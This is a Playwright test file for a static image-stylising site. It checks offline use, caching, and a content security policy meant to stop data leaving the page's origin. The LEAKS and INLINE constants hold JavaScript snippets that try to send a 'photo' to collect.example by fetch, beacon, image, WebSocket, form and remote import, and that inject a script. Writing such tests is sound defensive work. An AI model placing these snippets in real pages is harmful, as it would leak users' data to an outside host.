"""`dist/site/` at some path of a static host: a whole session, with and without a network, never leaving its origin."""

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from app_py.styles.vectors import decode, mix
from build.cli.site import CACHE, write_site
from build.paintings.gallery import read_gallery
from build.site import compress
from build.site.listing import site_files
from tests.support.chromium import Watch, launch, open_context, wait_until
from tests.support.own_paintings import add_painting, native_painting, native_vector, never_seen, shows
from tests.support.paintings import (
    START_MS,
    assert_same_painting,
    canvas_pixels,
    choose_style,
    expected_painting,
    state,
    unfold,
    upload,
)
from tests.support.paths import ROOT
from tests.support.server import static_server
from tests.support.trap import trap

SAMPLE = (ROOT / "www" / "photos" / "cat.jpg").read_bytes()
PICTURES_THAT_CANNOT_BE_HAD = """async () => {
    const sources = [...document.querySelectorAll('#styles img')].map(({ src }) => src);
    const answers = await Promise.all(sources.map((source) => fetch(source)));
    return sources.length < 40 ? ['there are too few'] : sources.filter((_, place) => !answers[place].ok);
}"""
STYLE, OTHER = "starry-night-nc16", "great-wave-nc16"
PATH = "some/path/atelier"


@pytest.fixture(scope="module")
def host(vendor: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a host, without a final slash; the site is at `{host}/some/path/atelier/`."""
    folder = tmp_path_factory.mktemp("host")
    root = vendor.parents[1]
    with pytest.MonkeyPatch.context() as patch:
        # This host sends no compressed copies, which take a minute.
        patch.setattr(compress, "SUFFIXES", set())
        write_site(root, site_files(root), folder / PATH, CACHE)
    with static_server(folder) as address:
        yield address


@pytest.fixture
def context(browser: Browser, host: str) -> Iterator[BrowserContext]:
    """A visitor whose every connection is watched, the service worker's too."""
    with trap() as outside:
        trapped = launch(browser.browser_type, outside.chromium_flag)
        context = open_context(trapped, service_workers="allow")
        watch = Watch(context, host)
        yield context
        trapped.close()
        assert watch.problems == []
        assert set(outside.hosts) == set()


def paint(page: Page, style: str) -> None:
    upload(page, "cat.jpg", SAMPLE)
    choose_style(page, style)
    unfold(page)
    page.select_option("#engine", "ort:wasm")
    page.select_option("#size", "128")
    page.click("#run")
    state(page, "done")
    assert_same_painting(canvas_pixels(page), expected_painting(SAMPLE, style, 128))


def make_a_style(page: Page, number: int) -> None:
    """A painting of one's own becomes the style of the photo on show, as native onnxruntime has it."""
    picture = never_seen(number)
    add_painting(page, f"picture {number}.png", picture)
    expect(page.locator("#own-models li")).to_have_count(number)
    shows(page, native_painting(native_vector(picture)))


def mix_two_paintings(page: Page) -> None:
    ranges = page.locator("#mix input[type=range]")
    page.click("#mix-styles")
    expect(ranges).to_have_count(1)
    page.locator("#styles .face[data-style='painting:great-wave']").click()
    expect(ranges).to_have_count(2)
    ranges.nth(1).fill("100")
    gallery = {style["id"]: style["vector"] for style in read_gallery()}
    wave = decode(gallery["painting:great-wave"], 100)
    shows(page, native_painting(mix([native_vector(never_seen(2)), wave], [100, 100])))


def wait_until_kept(page: Page) -> None:
    wait_until(
        page,
        """async () => {
            const listing = await (await fetch('vendor/site.json')).json();
            const wanted = listing.files.filter(({ keep }) => keep !== 'used').map(({ path }) => path);
            const cache = await caches.open(`site ${location.pathname} ${listing.release}`);
            const kept = new Set((await cache.keys()).map(({ url }) => url));
            // By their names: files that were used are there as well.
            return [...wanted, 'vendor/site.json'].every((path) => kept.has(new URL(path, location.href).href));
        }""",
        START_MS,
    )


def report(page: Page, address: str) -> list[object]:
    page.goto(address)
    state(page, "done")
    results: list[object] = json.loads(page.text_content("#results") or "")["results"]
    return results


def test_a_whole_session(context: BrowserContext, host: str) -> None:
    page = context.new_page()
    page.goto(f"{host}/{PATH}/")
    page.wait_for_url("**/www/")
    state(page, "ready", START_MS)
    paint(page, STYLE)
    make_a_style(page, 1)
    page.focus("#compare")
    page.keyboard.press("End")
    expect(page.locator("#compare")).to_have_attribute("aria-valuenow", "100")
    with page.expect_download() as download:
        page.click("#download")
    assert download.value.path().stat().st_size > 1_000
    wait_until_kept(page)
    assert page.evaluate("fetch('../models/nothing.onnx').then(({ status }) => status)") == 404

    context.set_offline(True)
    page.reload()
    # What was painted last comes back.
    page.wait_for_selector("#status[data-state=ready], #status[data-state=done]", timeout=START_MS)
    assert page.evaluate("crossOriginIsolated")
    paint(page, OTHER)
    expect(page.locator("#own-models li")).to_have_count(1)
    make_a_style(page, 2)
    mix_two_paintings(page)
    assert page.evaluate(PICTURES_THAT_CANNOT_BE_HAD) == []
    query = f"engines=ort:wasm&models={STYLE}&sizes=64&runs=1&autorun=1"
    assert len(report(page, f"{host}/{PATH}/www/benchmark.html?{query}")) == 1
    context.set_offline(False)
    assert report(page, f"{host}/{PATH}/www/ops.html?engines=ort:wasm&autorun=1")


LEAKS = {
    "fetch": "fetch('https://collect.example/', { method: 'POST', body: 'photo' }).catch(() => undefined)",
    "picture": "new Image().src = 'https://collect.example/x.png'",
    "script": "import('https://collect.example/x.js').catch(() => undefined)",
    "socket": "new WebSocket('wss://collect.example/')",
    "beacon": "navigator.sendBeacon('https://collect.example/', 'photo')",
    "form": """(() => {
        const form = Object.assign(document.createElement('form'), { action: 'https://collect.example/' });
        document.body.append(form);
        form.submit();
    })()""",
}
INLINE = """(() => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.head.append(script);
})()"""
REFUSED = """() => new Promise((resolve) => {{
    addEventListener('securitypolicyviolation', (event) => resolve(event.blockedURI), true);
    setTimeout(() => resolve('nothing was refused'), 10_000);
    {leak};
}})"""


@pytest.fixture(scope="module", params=["index.html", "benchmark.html", "ops.html"])
def bare_page(browser: Browser, host: str, request: pytest.FixtureRequest) -> Iterator[Page]:
    """A page whose Python does not start: its policy is its own, without a service worker's help."""
    context = open_context(browser, service_workers="block")
    page = context.new_page()
    page.route("**/vendor/**", lambda route: route.abort())
    page.goto(f"{host}/{PATH}/www/{request.param}")
    state(page, "error")
    yield page
    context.close()


@pytest.mark.parametrize("leak", LEAKS.values(), ids=LEAKS.keys())
def test_no_page_can_talk_to_anyone_else(bare_page: Page, leak: str) -> None:
    blocked: str = bare_page.evaluate(REFUSED.format(leak=leak))
    assert "collect.example" in blocked


def test_nothing_injected_runs(bare_page: Page) -> None:
    assert bare_page.evaluate(REFUSED.format(leak=INLINE)) == "inline"
    assert bare_page.evaluate("window.injected") is None


def test_no_worker_can_talk_to_anyone_else(context: BrowserContext, host: str) -> None:
    page = context.new_page()
    page.add_init_script("performance.now = () => 0")  # early enough to reload, however slow this machine is
    page.goto(f"{host}/{PATH}/www/")
    wait_until(page, "crossOriginIsolated", START_MS)
    state(page, "ready", START_MS)
    with page.expect_worker():
        page.evaluate("void (window.kept = new Worker('engine/worker.js'))")
    names = {urlsplit(worker.url).path.removeprefix(f"/{PATH}/www/") for worker in page.workers}
    assert names == {"python/worker.js", "engine/worker.js"}
    for worker in page.workers:
        assert "collect.example" in worker.evaluate(REFUSED.format(leak=LEAKS["fetch"]))
